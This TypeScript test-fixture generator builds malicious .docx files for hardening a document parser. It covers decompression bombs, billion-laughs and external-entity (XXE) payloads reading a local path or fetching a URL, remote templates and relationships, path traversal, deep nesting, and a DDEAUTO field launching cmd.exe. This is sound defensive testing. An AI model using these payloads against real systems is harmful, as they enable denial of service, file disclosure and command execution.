import { packRepeated } from '../building/packed.js';
import { type ZipPart, zipFile } from '../building/zip-file.js';
import { type Family, filesOf, goodLetter, randomBytes } from '../hostile-file.js';

const types = 'http://schemas.openxmlformats.org/package/2006/content-types';
const packageRelations = 'http://schemas.openxmlformats.org/package/2006/relationships';
const officeRelations = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const word = 'http://schemas.openxmlformats.org/wordprocessingml/2006/main';

const contentTypes = `<?xml version="1.0"?><Types xmlns="${types}"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>`;
const relations = (...list: string[]) =>
  `<?xml version="1.0"?><Relationships xmlns="${packageRelations}">${list.join('')}</Relationships>`;
const relation = (id: string, type: string, target: string, external = false) =>
  `<Relationship Id="${id}" Type="${officeRelations}/${type}" Target="${target}"${external ? ' TargetMode="External"' : ''}/>`;

const head = (doctype = '') =>
  `<?xml version="1.0" encoding="UTF-8"?>${doctype}<w:document xmlns:w="${word}" xmlns:r="${officeRelations}"><w:body>`;
const tail = '<w:sectPr/></w:body></w:document>';
const paragraph = (text: string) => `<w:p><w:r><w:t xml:space="preserve">${text}</w:t></w:r></w:p>`;
const letter = (n: number) => goodLetter(n).split('\n').map(paragraph).join('');
const documentOf = (body: string, doctype = '') => head(doctype) + body + tail;

/** The smallest whole container, with parts added or put in place of its own; null leaves one out. */
function docx(parts: Readonly<Record<string, Omit<ZipPart, 'name'> | string | Buffer | null>>): Buffer {
  const all: typeof parts = {
    '[Content_Types].xml': contentTypes,
    '_rels/.rels': relations(relation('rId1', 'officeDocument', 'word/document.xml')),
    ...parts,
  };
  return zipFile(
    Object.entries(all).flatMap(([name, part]): ZipPart[] => {
      if (part === null) return [];
      return [
        typeof part === 'string' || Buffer.isBuffer(part) ? { name, content: part } : { name, ...part },
      ];
    }),
  );
}
const main = (part: Omit<ZipPart, 'name'> | string, others: Parameters<typeof docx>[0] = {}) =>
  docx({ 'word/document.xml': part, ...others });

/** Entities of entities: nine steps make a gigabyte of three letters. */
const billionLaughs = `<!DOCTYPE w:document [<!ENTITY a0 "哈哈哈">${Array.from({ length: 9 }, (_, i) => `<!ENTITY a${i + 1} "${`&a${i};`.repeat(10)}">`).join('')}]>`;

export const docxFiles: Family = ({ http, path }, random) =>
  filesOf('docx', {
    'gigabyte-of-spaces.docx': () =>
      main({ packed: packRepeated(' '.repeat(1024 * 1024), 1024, head(), tail) }),
    'gigabyte-of-paragraphs.docx': () =>
      main({ packed: packRepeated(paragraph('举报').repeat(4096), 3000, head(), tail) }),
    'seven-megabytes-of-paragraphs.docx': () => main(documentOf(paragraph('举报').repeat(110_000))),
    'seven-megabytes-of-empty-runs.docx': () => main(documentOf(`<w:p>${'<w:r/>'.repeat(1_200_000)}</w:p>`)),
    'bomb-in-a-picture.docx': () =>
      main(documentOf(letter(620)), {
        'word/media/image1.png': { packed: packRepeated(Buffer.alloc(1024 * 1024), 1024) },
      }),
    'bomb-says-it-is-small.docx': () =>
      main({ packed: packRepeated(' '.repeat(1024 * 1024), 500, head(), tail), size: 4000 }),
    'bomb-in-footnotes.docx': () =>
      main(documentOf(letter(621)), {
        'word/footnotes.xml': { packed: packRepeated(' '.repeat(1024 * 1024), 600) },
      }),
    'billion-laughs.docx': () => main(documentOf(paragraph('&a9;'), billionLaughs)),
    'quadratic-entity.docx': () =>
      main(
        documentOf(
          paragraph('&a;'.repeat(100_000)),
          `<!DOCTYPE w:document [<!ENTITY a "${'哈'.repeat(50_000)}">]>`,
        ),
      ),
    'external-entity-file.docx': () =>
      main(documentOf(paragraph('&x;'), `<!DOCTYPE w:document [<!ENTITY x SYSTEM "file://${path}">]>`)),
    'external-entity-http.docx': () =>
      main(
        documentOf(
          paragraph('&x;') + letter(622),
          `<!DOCTYPE w:document [<!ENTITY x SYSTEM "${http}/docx-entity">]>`,
        ),
      ),
    'external-dtd.docx': () =>
      main(documentOf(letter(623), `<!DOCTYPE w:document SYSTEM "${http}/docx.dtd">`)),
    'hundred-thousand-deep.docx': () =>
      main(
        documentOf(
          `${'<w:sdt><w:sdtContent>'.repeat(100_000)}${paragraph('底')}${'</w:sdtContent></w:sdt>'.repeat(100_000)}`,
        ),
      ),
    'tables-3000-deep.docx': () =>
      main(
        documentOf(
          `${'<w:tbl><w:tr><w:tc>'.repeat(3000)}${paragraph('底')}${'</w:tc></w:tr></w:tbl>'.repeat(3000)}`,
        ),
      ),
    'unclosed-100000.docx': () => main(head() + '<w:p>'.repeat(100_000)),
    'attribute-of-six-megabytes.docx': () =>
      main(documentOf(`<w:p w:rsidR="${'A'.repeat(6 * 1024 * 1024)}">${paragraph('举报')}</w:p>`)),
    'hundred-thousand-attributes.docx': () =>
      main(documentOf(`<w:p ${Array.from({ length: 100_000 }, (_, i) => `a${i}=""`).join(' ')}></w:p>`)),
    'table-spans-a-million.docx': () =>
      main(
        documentOf(
          `<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val="1000000000"/></w:tcPr>${paragraph('举报')}</w:tc></w:tr></w:tbl>`,
        ),
      ),
    'links-outside.docx': () =>
      main(
        documentOf(
          `<w:p><w:hyperlink r:id="rId1"><w:r><w:t>链接</w:t></w:r></w:hyperlink></w:p>${letter(624)}`,
        ),
        {
          'word/_rels/document.xml.rels': relations(
            relation('rId1', 'hyperlink', `${http}/link`, true),
            relation('rId2', 'image', `${http}/image.png`, true),
            relation('rId3', 'image', `file://${path}`, true),
            relation('rId4', 'image', '\\\\127.0.0.1\\share\\image.png', true),
            relation('rId5', 'attachedTemplate', `${http}/template.dotm`, true),
            relation('rId6', 'subDocument', `file://${path}`, true),
            relation('rId7', 'frame', `${http}/frame.htm`, true),
            relation('rId8', 'styles', `${http}/styles.xml`, true),
          ),
        },
      ),
    'external-picture-shown.docx': () =>
      main(
        documentOf(
          `<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml"><v:imagedata r:id="rId1"/></v:shape></w:pict></w:r></w:p>${letter(625)}`,
        ),
        { 'word/_rels/document.xml.rels': relations(relation('rId1', 'image', `${http}/shown.png`, true)) },
      ),
    'attached-template.docx': () =>
      main(documentOf(letter(626)), {
        'word/settings.xml': `<w:settings xmlns:w="${word}" xmlns:r="${officeRelations}"><w:attachedTemplate r:id="rId1"/></w:settings>`,
        'word/_rels/settings.xml.rels': relations(
          relation('rId1', 'attachedTemplate', `${http}/t.dotm`, true),
        ),
      }),
    'main-part-is-outside.docx': () =>
      main(documentOf(letter(627)), {
        '_rels/.rels': relations(relation('rId1', 'officeDocument', `${http}/document.xml`, true)),
      }),
    'main-part-climbs-out.docx': () =>
      main(documentOf(letter(628)), {
        '_rels/.rels': relations(relation('rId1', 'officeDocument', `../../../../../..${path}`)),
      }),
    'relations-in-a-circle.docx': () =>
      main(documentOf(letter(629)), {
        'word/_rels/document.xml.rels': relations(
          relation('rId1', 'footnotes', 'document.xml'),
          relation('rId2', 'styles', 'document.xml'),
          relation('rId3', 'numbering', '../word/document.xml'),
          relation('rId4', 'officeDocument', '/word/document.xml'),
        ),
      }),
    'styles-in-a-circle.docx': () =>
      main(
        documentOf(`<w:p><w:pPr><w:pStyle w:val="A"/></w:pPr><w:r><w:t>举报</w:t></w:r></w:p>${letter(630)}`),
        {
          'word/styles.xml': `<w:styles xmlns:w="${word}"><w:style w:styleId="A" w:type="paragraph"><w:basedOn w:val="B"/></w:style><w:style w:styleId="B" w:type="paragraph"><w:basedOn w:val="A"/></w:style></w:styles>`,
        },
      ),
    'footnote-names-itself.docx': () =>
      main(documentOf(`<w:p><w:r><w:footnoteReference w:id="1"/></w:r></w:p>${letter(631)}`), {
        'word/_rels/document.xml.rels': relations(relation('rId1', 'footnotes', 'footnotes.xml')),
        'word/footnotes.xml': `<w:footnotes xmlns:w="${word}"><w:footnote w:id="1"><w:p><w:r><w:footnoteReference w:id="1"/></w:r></w:p></w:footnote></w:footnotes>`,
      }),
    'ole-object.docx': () =>
      main(
        documentOf(
          `<w:p><w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" Type="Embed" ProgID="Package" r:id="rId1"/></w:object></w:r></w:p>${letter(632)}`,
        ),
        {
          'word/_rels/document.xml.rels': relations(
            relation('rId1', 'oleObject', 'embeddings/oleObject1.bin'),
          ),
          'word/embeddings/oleObject1.bin': randomBytes(random, 20_000),
        },
      ),
    'macro.docm': () => main(documentOf(letter(633)), { 'word/vbaProject.bin': randomBytes(random, 20_000) }),
    'alt-chunk.docx': () =>
      main(documentOf(`<w:altChunk r:id="rId1"/>${letter(634)}`), {
        'word/_rels/document.xml.rels': relations(relation('rId1', 'aFChunk', 'chunk.html')),
        'word/chunk.html': `<html><base href="${http}/"><img src="chunk.png"><script src="chunk.js"></script></html>`,
      }),
    'include-field.docx': () =>
      main(
        documentOf(
          `<w:p><w:fldSimple w:instr="INCLUDETEXT &quot;${path}&quot;"><w:r><w:t>旧</w:t></w:r></w:fldSimple></w:p><w:p><w:fldSimple w:instr="DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/c calc&quot;"/></w:p>${letter(635)}`,
        ),
      ),
    'no-main-part.docx': () => docx({ 'word/other.xml': documentOf(letter(636)) }),
    'no-relations.docx': () => main(documentOf(letter(637)), { '_rels/.rels': null }),
    'no-content-types.docx': () => main(documentOf(letter(638)), { '[Content_Types].xml': null }),
    'empty-main-part.docx': () => main(''),
    'main-part-is-binary.docx': () => docx({ 'word/document.xml': randomBytes(random, 100_000) }),
    'utf7-declared.docx': () => main(documentOf(letter(639)).replace('UTF-8', 'UTF-7')),
    'nul-bytes-in-xml.docx': () => main(documentOf(letter(640)).replace('举报', '\u0000\u0001￾')),
    'encrypted-member.docx': () => main({ content: documentOf(letter(641)), flags: 0x801 }),
    'says-it-is-stored.docx': () => main({ content: documentOf(letter(642)), method: 0, size: 10 }),
    'main-part-twice.docx': () =>
      zipFile([
        { name: '[Content_Types].xml', content: contentTypes },
        { name: '_rels/.rels', content: relations(relation('rId1', 'officeDocument', 'word/document.xml')) },
        { name: 'word/document.xml', content: documentOf(letter(643)) },
        { name: 'word/document.xml', content: documentOf(letter(644)) },
      ]),
    'five-thousand-parts.docx': () =>
      docx({
        'word/document.xml': documentOf(letter(645)),
        ...Object.fromEntries(Array.from({ length: 5200 }, (_, i) => [`word/media/${i}.png`, ''])),
      }),
  });
